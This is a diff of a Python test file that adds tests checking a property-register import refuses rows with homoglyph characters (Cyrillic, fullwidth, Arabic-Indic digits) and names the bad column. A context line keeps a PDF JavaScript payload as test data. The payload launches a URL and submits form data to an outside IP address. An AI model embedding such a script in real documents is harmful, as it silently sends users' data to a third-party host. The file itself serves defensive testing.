@@ -21,6 +21,8 @@ from iok_desk.intake.pdf_form import read_request_form
 from iok_desk.services import intake, register_import, requests
 from iok_desk.services.context import Actor
 
+from .corpus import short
+
 SCRIPT = "app.launchURL('http://198.51.100.7/x', true); this.submitForm('http://198.51.100.7');"
 
 
@@ -128,4 +130,28 @@ def test_a_register_with_a_bad_row_imports_nothing(db: Database, admin: Actor, r
     before = row_counts(db)
     with pytest.raises(RegisterFileError):
         register_import.import_register(db, admin, data)
+    assert row_counts(db) == before
+
+
+LOOKALIKE_ROWS = [
+    (GOOD.replace(";12;5;", ";١٢;٥;"), "budynek"),
+    (GOOD.replace(";5;", ";٥;"), "lokal_nr"),
+    (GOOD.replace("Paprykowa", "Pаprykowa"), "ulica"),  # Cyrillic а
+    (GOOD.replace("Paprykowa", "Ｐaprykowa"), "ulica"),
+    (GOOD.replace("Jan", "Jаn"), "imie"),
+    (GOOD.replace("Kowalski", "Кowalski"), "nazwisko"),
+    (GOOD.replace("2020-01-15", "٢٠٢٠-٠١-١٥"), "tytul_od"),
+]
+
+
+@pytest.mark.parametrize(("row", "column"), LOOKALIKE_ROWS,
+                         ids=[f"{column} {short(row)}" for row, column in LOOKALIKE_ROWS])
+def test_a_look_alike_in_the_register_is_refused_with_its_column_and_nothing_is_written(
+        db: Database, admin: Actor, row: str, column: str) -> None:
+    data = "\r\n".join([HEADER, row]).encode("utf-8")
+    before = row_counts(db)
+    with pytest.raises(RegisterFileError) as error:
+        register_import.import_register(db, admin, data)
+    assert {problem.line for problem in error.value.problems} == {2}
+    assert column in [problem.column for problem in error.value.problems]
     assert row_counts(db) == before
